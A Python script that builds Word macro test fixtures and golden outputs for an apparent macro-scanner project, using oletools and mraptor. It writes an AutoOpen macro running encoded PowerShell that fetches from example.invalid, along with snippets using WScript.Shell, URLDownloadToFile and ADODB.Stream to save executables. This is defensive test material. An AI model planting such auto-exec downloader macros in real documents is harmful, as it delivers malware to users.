#!/usr/bin/env python3
"""Build the benign VBA fixtures under Tests/OfficeMacrosTests/Resources/vba/.

Uses the PyPI packages ms-ovba and ms-cfb (scripts/requirements-fixtures.txt) to write vbaProject.bin files,
then wraps them:
  autoopen-powershell.docm / .vbaProject.bin   AutoOpen -> Shell "powershell -e <base64 UTF-16LE>"
  autoopen-powershell.doc                      the same project under Macros/ in a Word 97 CFB
  format-table.docm / .vbaProject.bin          Sub Format_Table() helper, no auto-exec: not malicious
  cp932.docm / .vbaProject.bin                 code page 932 module with Japanese comments and literals

Everything is harmless: the URL is in example.invalid, and the PowerShell command only fetches a text file.
Run:  .venv-fixtures/bin/python scripts/make-vba-fixtures.py
"""
import base64
import os
import shutil
import tempfile
import uuid
import zipfile

import sys

if len(sys.argv) == 1:  # building fixtures needs ms-ovba; goldens need oletools only
    from ms_ovba.vbaProject import VbaProject
    from ms_ovba.Models.Entities.doc_module import DocModule
    from ms_ovba.Models.Entities.std_module import StdModule
    from ms_ovba.Views.project_ole_file import ProjectOleFile
    from ms_cfb.ole_file import OleFile
    from ms_cfb.Models.Directories.root_directory import RootDirectory
    from ms_cfb.Models.Directories.storage_directory import StorageDirectory
    from ms_cfb.Models.Directories.stream_directory import StreamDirectory

    import ms_ovba.Views.dirStream as _dir_stream_module

    # ms-ovba 0.0.1 always writes PROJECTCODEPAGE 1252 (0x04E4); make it write the fixture's code page.
    _CURRENT_CODEPAGE = [1252]
    _OriginalIdSizeField = _dir_stream_module.IdSizeField


    def _id_size_field(record_id, size, value):
        if record_id == 3 and size == 2:
            value = _CURRENT_CODEPAGE[0]
        return _OriginalIdSizeField(record_id, size, value)


    _dir_stream_module.IdSizeField = _id_size_field

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, '..', 'Tests', 'OfficeMacrosTests', 'Resources', 'vba')

PS_COMMAND = 'Invoke-WebRequest https://dl.example.invalid/a.txt'
PS_B64 = base64.b64encode(PS_COMMAND.encode('utf-16-le')).decode('ascii')

WORD_DOC_GUID = uuid.UUID('0002090600000000C000000000000046')

THIS_DOCUMENT = '''VERSION 1.0 CLASS
BEGIN
  MultiUse = -1  'True
END
Attribute VB_Name = "ThisDocument"
Attribute VB_GlobalNameSpace = False
Attribute VB_Creatable = False
Attribute VB_PredeclaredId = True
Attribute VB_Exposed = True
'''

MODULES = {
    'autoopen-powershell': [
        ('Module1', 'Attribute VB_Name = "Module1"\n'
                    'Sub AutoOpen()\n'
                    '    Shell "powershell -e ' + PS_B64 + '"\n'
                    'End Sub\n', 'cp1252'),
    ],
    'format-table': [
        ('Helpers', 'Attribute VB_Name = "Helpers"\n'
                    "' Formats the first table of the document\n"
                    'Sub Format_Table()\n'
                    '    Dim t As Table\n'
                    '    If ActiveDocument.Tables.Count = 0 Then Exit Sub\n'
                    '    Set t = ActiveDocument.Tables(1)\n'
                    '    t.Borders.Enable = True\n'
                    '    t.Rows(1).Range.Font.Bold = True\n'
                    'End Sub\n', 'cp1252'),
    ],
    'cp932': [
        ('Module1', 'Attribute VB_Name = "Module1"\n'
                    "' 請求書を開く\n"
                    'Sub ShowGreeting()\n'
                    "    ' 挨拶を表示します\n"
                    '    MsgBox "こんにちは"\n'
                    '    MsgBox "請求書（第１号）を確認してください"\n'
                    'End Sub\n', 'cp932'),
    ],
}

CODEPAGE = {'autoopen-powershell': 'cp1252', 'format-table': 'cp1252', 'cp932': 'cp932'}


def build_project(name, workdir):
    """Writes vbaProject.bin for fixture `name` into workdir and returns the RootDirectory builder's output."""
    cwd = os.getcwd()
    os.chdir(workdir)
    try:
        project = VbaProject()
        project.codepage_name = CODEPAGE[name]
        _CURRENT_CODEPAGE[0] = int(CODEPAGE[name][2:])
        project.project_id = '{11111111-2222-3333-4444-555555555555}'
        doc = DocModule('ThisDocument')
        with open('ThisDocument.cls', 'w', newline='\n') as f:
            f.write(THIS_DOCUMENT)
        doc.add_file(os.path.join(workdir, 'ThisDocument.cls'))
        doc.add_guid(WORD_DOC_GUID)
        doc.normalize_file()
        project.add_module(doc)
        for mod_name, source, encoding in MODULES[name]:
            path = os.path.join(workdir, mod_name + '.bas')
            # The library reads text with the locale's encoding; write the CR LF source in the project
            # code page ourselves, as `<file>.new`, which is what it compresses.
            with open(path + '.new', 'wb') as f:
                f.write(source.replace('\n', '\r\n').encode(encoding))
            module = StdModule(mod_name)
            module.add_file(path)
            project.add_module(module)
        root = ProjectOleFile._build_ole_directory(project)
        ole = OleFile()
        ole.root_directory = root
        ole.create_file('vbaProject.bin')
        return root
    finally:
        os.chdir(cwd)


def write_docm(bin_path, out_path):
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
          '<Override PartName="/word/document.xml" '
          'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
          '</Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            'Target="word/document.xml"/></Relationships>')
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
           '<w:body><w:p><w:r><w:t>Emoguard test fixture</w:t></w:r></w:p></w:body></w:document>')
    doc_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                'Target="vbaProject.bin"/></Relationships>')
    with open(bin_path, 'rb') as f:
        vba = f.read()
    fixed = (1980, 1, 1, 0, 0, 0)
    with zipfile.ZipFile(out_path, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in (('[Content_Types].xml', ct), ('_rels/.rels', rels), ('word/document.xml', doc),
                           ('word/_rels/document.xml.rels', doc_rels), ('word/vbaProject.bin', vba)):
            info = zipfile.ZipInfo(name, fixed)
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)


def write_doc(project_root, workdir, out_path):
    """A Word 97 compound file: a minimal WordDocument stream and the VBA project under Macros/."""
    cwd = os.getcwd()
    os.chdir(workdir)
    try:
        # A FIB-sized placeholder: wIdent 0xA5EC, nFib 0x00C1, then zeros.
        with open('worddocument.bin', 'wb') as f:
            f.write(b'\xec\xa5\xc1\x00' + b'\x00' * 1020)
        root = RootDirectory()
        root.add_directory(StreamDirectory('WordDocument', 'worddocument.bin'))
        macros = StorageDirectory('Macros')
        for child in project_root.directories:
            macros.add_directory(child)
        root.add_directory(macros)
        ole = OleFile()
        ole.root_directory = root
        ole.create_file('word.doc')
        shutil.copyfile('word.doc', out_path)
    finally:
        os.chdir(cwd)


def main():
    os.makedirs(OUT, exist_ok=True)
    for name in MODULES:
        with tempfile.TemporaryDirectory() as tmp:
            root = build_project(name, tmp)
            shutil.copyfile(os.path.join(tmp, 'vbaProject.bin'), os.path.join(OUT, name + '.vbaProject.bin'))
            write_docm(os.path.join(tmp, 'vbaProject.bin'), os.path.join(OUT, name + '.docm'))
            if name == 'autoopen-powershell':
                write_doc(root, tmp, os.path.join(OUT, name + '.doc'))
        print('wrote', name)


if __name__ == '__main__' and len(os.sys.argv) == 1:
    main()


# --- Goldens ---------------------------------------------------------------------------------------------------
# Run with oletools 0.60.2:  .venv-oletools/bin/python scripts/make-vba-fixtures.py goldens
# For each sample: olevba's modules (name, stream, code exactly as decoded), its analysis, mraptor's flags, and
# the raw streams of each VBA project (so the extractor can be tested on byte arrays, independently of the
# compound-file reader) under golden/streams/<sample>/<project storage>/...

CORPUS = os.path.join(HERE, '..', 'Tests', 'Corpus', 'oletools')
GOLDEN_SAMPLES = [
    ('oleform-PR314.docm', CORPUS + '/oleform/oleform-PR314.docm'),
    ('autostart-encrypt-standardpassword.xls', CORPUS + '/encrypted/autostart-encrypt-standardpassword.xls'),
    ('sample_with_vba.ppt', CORPUS + '/olevba/sample_with_vba.ppt'),
    ('autoopen-powershell.docm', os.path.join(OUT, 'autoopen-powershell.docm')),
    ('autoopen-powershell.doc', os.path.join(OUT, 'autoopen-powershell.doc')),
    ('format-table.docm', os.path.join(OUT, 'format-table.docm')),
    ('cp932.docm', os.path.join(OUT, 'cp932.docm')),
]


def goldens():
    import json
    from oletools import olevba, mraptor
    gdir = os.path.join(OUT, 'golden')
    for sample, path in GOLDEN_SAMPLES:
        parser = olevba.VBA_Parser(path)
        subs = [parser] + list(parser.ole_subfiles or [])
        projects = []
        for sub in subs:
            if sub.ole_file is None:
                continue
            for (root, project_path, dir_path) in sub.find_vba_projects() or []:
                project = olevba.VBA_Project(sub.ole_file, root, project_path, dir_path)
                project.parse_project_stream()
                for _ in project.parse_modules():
                    pass
                storage = root.rstrip('/')
                stream_dir = os.path.join(gdir, 'streams', sample, storage)
                for entry in sub.ole_file.listdir():
                    full = '/'.join(entry)
                    if not (full + '/').startswith(root) or full == '':
                        continue
                    rel = full[len(root):]
                    if not (rel == 'PROJECT' or rel.upper().startswith('VBA/')) or '__SRP_' in rel:
                        continue
                    target = os.path.join(stream_dir, rel)
                    os.makedirs(os.path.dirname(target), exist_ok=True)
                    with open(target, 'wb') as f:
                        f.write(sub.ole_file.openstream(full).read())
                projects.append({
                    'storage': storage,
                    'name': project.projectname,
                    'codepage': project.codepage,
                    'modules': [{'name': m.name, 'stream': m.code_path, 'offset': m.textoffset,
                                 'code': m.code} for m in project.modules],
                })
        parser.close()
        analysis_parser = olevba.VBA_Parser(path)
        analysis = [{'type': t, 'keyword': k, 'description': d}
                    for (t, k, d) in (analysis_parser.analyze_macros() or [])]
        all_code = analysis_parser.get_vba_code_all_modules() if analysis_parser.detect_vba_macros() else ''
        raptor = mraptor.MacroRaptor(all_code)
        raptor.scan()
        analysis_parser.close()
        record = {'sample': sample, 'olevba': '0.60.2', 'projects': projects, 'analysis': analysis,
                  'mraptor': {'flags': raptor.get_flags(), 'suspicious': raptor.suspicious}}
        os.makedirs(gdir, exist_ok=True)
        with open(os.path.join(gdir, sample + '.json'), 'w', encoding='utf-8') as f:
            json.dump(record, f, ensure_ascii=False, indent=1, sort_keys=True)
            f.write('\n')
        print('golden', sample, [len(p['modules']) for p in projects], raptor.get_flags())


if __name__ == '__main__' and len(os.sys.argv) > 1 and os.sys.argv[1] == 'goldens':
    goldens()


def analysis_cases():
    """Snippets exercising every olevba keyword and pattern, with olevba's and mraptor's verdicts on each."""
    from oletools import olevba, mraptor
    snippets = []
    tables = (list(olevba.AUTOEXEC_KEYWORDS.values()) + list(olevba.SUSPICIOUS_KEYWORDS.values()))
    for keywords in tables:
        for kw in keywords:
            snippets.append('Sub T()\r\n    %s 1\r\nEnd Sub\r\n' % kw)
            snippets.append('x = a%s + 1\n' % kw)
            snippets.append('y = %s_z\n' % kw.lower())
            snippets.append('y = (%s)\n' % kw.upper())
    for event in ('Painted', 'Painting', 'GotFocus', 'LostFocus', 'MouseHover', 'Click', 'Change', 'Resize',
                  'BeforeNavigate2', 'BeforeScriptExecute', 'DocumentComplete', 'DownloadBegin',
                  'DownloadComplete', 'FileDownload', 'NavigateComplete2', 'NavigateError', 'ProgressChange',
                  'PropertyChange', 'SetSecureLockIcon', 'StatusTextChange', 'TitleChange', 'MouseMove',
                  'MouseEnter', 'MouseLeave', 'Layout', 'OnConnecting', 'FollowHyperlink',
                  'ContentControlOnEnter'):
        snippets.append('Private Sub CommandButton1_%s()\nEnd Sub\n' % event)
        snippets.append('Sub _%s()\nEnd Sub\n' % event)
        snippets.append('Sub X_%sY()\nEnd Sub\n' % event)
    snippets += [
        # IOCs
        'u = "http://dl.example.invalid/a.exe"\n',
        'u = "https://dl.example.invalid:8080/path/x.php?a=1&b=2"\n',
        'u = "ftp://10.0.0.1/file.bin" & "ftps://[::1]/"\n',
        'u = "HTTP://UPPER.example.com/" & "xhttp://nope.example.com/"\n',
        'u = "http://a.b.c1/x" & " http://host.xn--p1ai/z" & "http://1.2.3.4.example.com/"\n',
        'u = "http://schemas.openxmlformats.org/x" & "http://schemas.microsoft.com/y"\n',
        'ip = "192.168.1.256" & "010.1.1.1" & "version 1.0.0.0" & "x1.2.3.4y" & "999.1.1.1"\n',
        'f = "C:\\Users\\Public\\payload.exe" & "evil.dll.exe" & "a.b.vbs" & "x.ps1xml" & "doc.docx" & "t.JS"\n',
        'f = "report.pdf.scr" & "setup.msi" & "run.bat" & "ok.com"\n',
        'e = "user@example.com"\n',
        # hex, base64
        's = "48656C6C6F20576F726C64"\r\n',
        's = "4D5A9000" & "DeadBeefCafe" & "0123456789abcdef0"\n',
        's = StrReverse("6F6C6C6548")\n',
        's = "SGVsbG8gV29ybGQ=" & "VGhpcyBpcyBhIHRlc3Q=" & "dGVzdA==" & "QQ==" & "abcd"\n',
        's = "cG93ZXJzaGVsbCAtbm9wIC1lbmM=" & "Q3JlYXRlT2JqZWN0KCJXU2NyaXB0LlNoZWxsIik="\n',
        's = "ThisDocument" & "ZmlsZS5leGU=" & "aHR0cDovL2V2aWwuZXhhbXBsZS5pbnZhbGlkL2EuZXhl"\n',
        's = "AAAA" & "AAAAAAAA" & "QUJD" & "////" & "a+b/"\n',
        # special patterns
        'ActiveDocument.Variables("x").Value = 1\nActiveDocument .  Variables\n',
        'Declare PtrSafe Function EnumDateFormatsExEx Lib "kernel32" ()\nEnumSystemLanguageGroupsW 1\n',
        'x = execve("a") & execl & system & popen\n',
        'x = "Could contain following functions: EXEC" & EXEC\n',
        'x = "REGISTER" & "Could contain following functions: REGISTER"\n',
        'x = "\x08backspace"\n',
        'Print #1, "x"\nPrint#1\n',
        'Sub AutoOpen()\nOpen "c:\\x.txt" For Output As #1\nPrint #1, "hi"\nClose #1\nEnd Sub\n',
        'Sub Document_Open()\nSet o = CreateObject("WScript.Shell")\no.Run "calc"\nEnd Sub\n',
        'Sub Workbook_Open()\nx = URLDownloadToFile(0, "http://x.example.invalid/a", "c:\\a.exe", 0, 0)\nEnd Sub\n',
        'Private Declare Function VirtualAlloc Lib "kernel32" (ByVal a As Long) As Long\n',
        'Sub AutoOpenX()\nShell "cmd"\nEnd Sub\n',
        'Sub xAuto_Ope()\nEnd Sub\nDeclare Sub Sleep Lib "kernel32"\n',
        'Sub Foo_ClickBar()\nKill "x"\nEnd Sub\n',
        'Sub T()\nOpen "a" _\n For Binary As #1\nEnd Sub\n',
        'Sub T()\nx = "a" & _\r\n  "b"\r\nShell _\r\n "calc"\r\nEnd Sub\r\n',
        'Set s = CreateObject("ADODB.Stream")\ns.SaveToFile "c:\\a.exe"\n',
        'Sub T()\n\' a comment with powershell -EncodedCommand\nEnd Sub\n',
        "x = Chr(72) & Chr(105) & ChrW(33)\nx = StrReverse(\"llehS\")\n",
        'x = "日本語のコメント Shell" & "こんにちはShell" & "Shellこんにちは"\n',
        'Sub Auto_Close()\nEnd Sub\nSub Workbook_BeforeClose()\nEnd Sub\nSub DocumentBeforeClose()\nEnd Sub\n',
        'Sub T()\n  Application.Run "x"\n  ExecuteExcel4Macro "EXEC(""calc"")"\nEnd Sub\n',
        '',
        'Attribute VB_Name = "Module1"\r\n',
    ]
    cases = []
    for code in snippets:
        scanner = olevba.VBA_Scanner(code)
        results = scanner.scan(include_decoded_strings=False, deobfuscate=False)
        raptor = mraptor.MacroRaptor(code)
        raptor.scan()
        cases.append({'code': code,
                      'analysis': [{'type': t, 'keyword': k, 'description': d} for (t, k, d) in results],
                      'mraptor': {'flags': raptor.get_flags(), 'suspicious': raptor.suspicious}})
    path = os.path.join(OUT, 'golden', 'analysis-cases.json')
    with open(path, 'w', encoding='utf-8') as f:
        json_dump = __import__('json').dumps(cases, ensure_ascii=False, indent=0, sort_keys=True)
        f.write(json_dump + '\n')
    print('analysis cases', len(cases))


if __name__ == '__main__' and len(os.sys.argv) > 1 and os.sys.argv[1] == 'goldens':
    analysis_cases()
